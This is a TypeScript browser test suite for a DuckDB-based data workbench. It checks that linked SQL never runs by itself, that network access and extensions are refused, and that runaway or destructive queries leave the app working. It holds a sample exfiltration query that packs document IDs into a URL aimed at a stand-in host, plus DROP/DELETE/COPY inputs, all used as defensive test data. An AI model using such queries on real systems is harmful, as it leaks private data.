/**
 * Safe by construction, tried as an attacker and a careless user would, in the
 * hosted build served by `vite preview` (with its CSP header) and in the
 * single file from file://:
 * - a link's SQL fills the workbench but never runs by itself;
 * - SQL that tries to send data to another host (a second local port stands in
 *   for it) or to load an extension reaches no other host: DuckDB refuses it;
 * - runaway queries (`repeat('x',100000000)`, `range(100000000)`, a cross join)
 *   leave the page answering clicks within a second, can be cancelled, and
 *   the app works afterwards;
 * - DELETE / DROP / ATTACH / COPY / INSTALL change no view's figures.
 */
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildApp, hostedBuild, launch, previewApp, waitForDb, type AppServer, type Page } from './harness'
import { blockNetwork, checkComparePivot, runSql, watchProblems, type Problems } from './offline-helpers'

/** A server on another port, standing in for another host: it counts every request it gets. */
async function otherHost(): Promise<{ port: number; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = []
  const server: Server = createServer((req, res) => { hits.push(req.url ?? ''); res.end('a,b\n1,2\n') })
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok))
  return { port: (server.address() as AddressInfo).port, hits, close: () => new Promise((ok) => server.close(() => ok())) }
}

const exfiltration = (port: number) => `SET VARIABLE u=(SELECT 'http://127.0.0.1:${port}/x.csv?d='||string_agg(doc_id,'_') FROM documents); SELECT * FROM read_csv(getvariable('u'))`

/** Milliseconds from a click on the language toggle to the page showing the other language. */
async function clickLatency(page: Page): Promise<number> {
  const before = await page.evaluate(() => document.documentElement.lang)
  const t0 = Date.now()
  await page.click('[data-testid="lang-toggle"]', { timeout: 10_000 })
  await page.waitForFunction((b) => document.documentElement.lang !== b, before, { timeout: 10_000 })
  return Date.now() - t0
}

/** Opens a link to the workbench with SQL in it and checks that nothing ran. */
async function openLinkRunsNothing(page: Page, base: string, sql: string): Promise<void> {
  await page.goto(base + '#/workbench?sql=' + encodeURIComponent(sql))
  await waitForDb(page)
  await page.waitForSelector('[data-testid="sql-from-link"]')
  expect(await page.inputValue('[data-testid="sql-input"]')).toBe(sql)
  expect(await page.locator('[data-testid="sql-grid"], [data-testid="sql-error"], [data-testid="sql-summary"]').count()).toBe(0)
}

/** Runs SQL in the workbench, whatever it returns (rows, none, an error); returns the error or the grid's text. */
async function run(page: Page, sql: string): Promise<{ error: string | null; grid: string }> {
  const view = page.locator('[data-testid="view-workbench"]')
  if (!(await view.count())) {
    await page.click('[data-nav="workbench"]')
    await page.waitForSelector('[data-testid="sql-input"]')
  }
  const before = Number(await view.getAttribute('data-runs'))
  await page.fill('[data-testid="sql-input"]', sql)
  await page.click('[data-testid="run-sql"]')
  await page.waitForFunction((n) => Number(document.querySelector('[data-testid="view-workbench"]')?.getAttribute('data-runs')) > n, before, { timeout: 60_000 })
  const error = page.locator('[data-testid="sql-error"], [data-testid="sql-stopped"]')
  const grid = page.locator('[data-testid="sql-grid"] tbody')
  return { error: (await error.count()) ? await error.innerText() : null, grid: (await grid.count()) ? await grid.innerText() : '' }
}

/** Runs SQL that must fail; returns DuckDB's message. */
async function refused(page: Page, sql: string): Promise<string> {
  const r = await run(page, sql)
  if (r.error === null) throw new Error(`expected an error, got ${r.grid}`)
  return r.error
}

describe('hosted build (vite preview, CSP header)', () => {
  let build: ReturnType<typeof hostedBuild>
  let server: AppServer
  let other: Awaited<ReturnType<typeof otherHost>>
  let chromium: Awaited<ReturnType<typeof launch>>
  let page: Page
  let problems: Problems
  const workerCsp: string[] = []

  beforeAll(async () => {
    build = hostedBuild()
    server = await previewApp(build.dir)
    other = await otherHost()
    chromium = await launch()
    problems = watchProblems(chromium.browser, new URL(server.url).host)
    page = await chromium.browser.newPage()
    page.on('response', (r) => { if (/duckdb-browser-.*worker.*\.js/.test(r.url())) workerCsp.push(r.headers()['content-security-policy'] ?? '') })
    await page.goto(server.url)
    await waitForDb(page)
  })

  afterAll(async () => {
    await chromium?.close()
    await server?.close()
    await other?.close()
    build?.remove()
  })

  it('sends the CSP header with DuckDB’s worker script, so the worker is held to it too', () => {
    expect(workerCsp.length).toBeGreaterThan(0)
    for (const csp of workerCsp) expect(csp).toContain("default-src 'self'")
  })

  it('opening the exfiltration link runs nothing', async () => {
    await openLinkRunsNothing(page, server.url, exfiltration(other.port))
    expect(other.hits).toEqual([])
  })

  it('run by hand, the exfiltration SQL and LOAD httpfs are refused and reach no other host', async () => {
    expect(await refused(page, exfiltration(other.port))).toMatch(/Permission Error/)
    expect(await refused(page, 'LOAD httpfs')).toMatch(/Permission Error/)
    expect(await refused(page, `SELECT * FROM read_csv('http://127.0.0.1:${other.port}/y.csv')`)).toMatch(/Permission Error/)
    expect(await refused(page, 'SET enable_external_access = true')).toMatch(/locked/)
    await run(page, 'INSTALL httpfs')
    expect(other.hits).toEqual([])
    expect(problems.foreign).toEqual([])
  })

  it('keeps the page answering clicks within 1 s through repeat(), range() and a long join, and cancels the join', async () => {
    const latencies: number[] = []
    await page.goto(server.url + '#/workbench')
    await page.waitForSelector('[data-testid="sql-input"]')

    await page.fill('[data-testid="sql-input"]', "SELECT repeat('x', 100000000) AS big")
    await page.click('[data-testid="run-sql"]')
    latencies.push(await clickLatency(page), await clickLatency(page))
    await page.waitForSelector('[data-testid="sql-cut"]', { timeout: 60_000 })
    expect(await page.locator('[data-testid="sql-grid"] tbody td').first().innerText()).toBe('x'.repeat(2000) + '…')

    await page.fill('[data-testid="sql-input"]', 'SELECT * FROM range(100000000)')
    await page.click('[data-testid="run-sql"]')
    latencies.push(await clickLatency(page), await clickLatency(page))
    await page.waitForFunction(() => /100,000,000/.test(document.querySelector('[data-testid="sql-summary"]')?.textContent ?? ''), null, { timeout: 60_000 })
    expect(await page.locator('[data-testid="sql-grid"] tbody tr').count()).toBe(1000)

    await page.fill('[data-testid="sql-input"]', 'SELECT count(*) FROM range(200000) a, range(200000) b WHERE a.range + b.range = 7')
    await page.click('[data-testid="run-sql"]')
    await page.waitForSelector('[data-testid="cancel-sql"]')
    for (let i = 0; i < 4; i++) latencies.push(await clickLatency(page))
    await page.click('[data-testid="cancel-sql"]')
    await page.waitForSelector('[data-testid="sql-stopped"]')
    expect(latencies.every((ms) => ms < 1000), `click latencies ${latencies.join(', ')} ms`).toBe(true)

    // The tab lives on: a new copy answers, and the views still work.
    expect(await runSql(page, 'SELECT 6 * 7 AS answer')).toContain('42')
    await checkComparePivot(page, server.url)
    expect(problems.pageErrors).toEqual([])
  })

  it('a query that needs more memory than the copy may use ends with a message, and the next one works', async () => {
    const r = await run(page, "SELECT length(string_agg(repeat('x', 10000000), '')) AS n FROM range(300)")
    expect(r.error).toMatch(/memory|Out of Memory/i)
    expect((await run(page, 'SELECT 6 * 7 AS answer')).grid).toContain('42')
    expect(problems.pageErrors).toEqual([])
  })

  it('DELETE, DROP, ATTACH, COPY and INSTALL from the workbench leave every view’s figures as they were', async () => {
    await page.goto(server.url + '#/')
    await page.waitForSelector('[data-testid="coverage"]')
    // The publisher rows are DuckDB's answer: compare the Overview once they are in.
    await page.waitForSelector('[data-testid="publisher-row"]')
    const overview = await page.locator('[data-testid="view-overview"]').innerText()
    for (const sql of ['DELETE FROM line_items', 'DROP TABLE documents', 'DROP VIEW v_function', "ATTACH 'x.db' AS x", "COPY line_items TO 'out.csv'", 'INSTALL httpfs', 'UPDATE sangong SET amount_yuan = 0']) {
      await run(page, sql)
    }
    // The copy itself was changed (that is what the user asked for) …
    expect(await runSql(page, 'SELECT count(*) AS n FROM line_items')).toMatch(/^\s*0\s*$/)
    // … the views were not.
    await checkComparePivot(page, server.url)
    await page.goto(server.url + '#/')
    await page.waitForSelector('[data-testid="coverage"]')
    await page.waitForSelector('[data-testid="publisher-row"]')
    expect(await page.locator('[data-testid="view-overview"]').innerText()).toBe(overview)
    // Reset gives a fresh copy of the app's data.
    await page.goto(server.url + '#/workbench')
    await page.click('[data-testid="reset-copy"]')
    // The 1,763 rows of data/dataset/line_items.csv.
    expect(Number((await runSql(page, 'SELECT count(*) AS n FROM line_items')).trim())).toBe(1763)
    expect(problems.foreign).toEqual([])
  })
})

describe('single file (file://)', () => {
  let dist: string
  let chromium: Awaited<ReturnType<typeof launch>>
  let page: Page
  let blocked: string[]
  let problems: Problems

  beforeAll(async () => {
    dist = mkdtempSync(join(tmpdir(), 'kanzhang-sec-single-'))
    buildApp(dist, {}, ['--mode', 'single'])
    chromium = await launch()
    problems = watchProblems(chromium.browser, null)
    blocked = await blockNetwork(chromium.browser)
    page = await chromium.browser.newPage()
  })

  afterAll(async () => {
    await chromium?.close()
    if (dist) rmSync(dist, { recursive: true, force: true })
  })

  it('runs nothing from a link, refuses the exfiltration SQL and LOAD httpfs, and makes no request', async () => {
    const base = pathToFileURL(join(dist, 'kanzhang.html')).href
    await openLinkRunsNothing(page, base, exfiltration(9))
    expect(await refused(page, exfiltration(9))).toMatch(/Permission Error/)
    expect(await refused(page, 'LOAD httpfs')).toMatch(/Permission Error/)
    expect(await runSql(page, 'SELECT count(*) AS n FROM documents')).toMatch(/^\s*4\s*$/)
    expect(blocked).toEqual([])
    expect(problems.foreign).toEqual([])
    expect(problems.csp).toEqual([])
  })
})
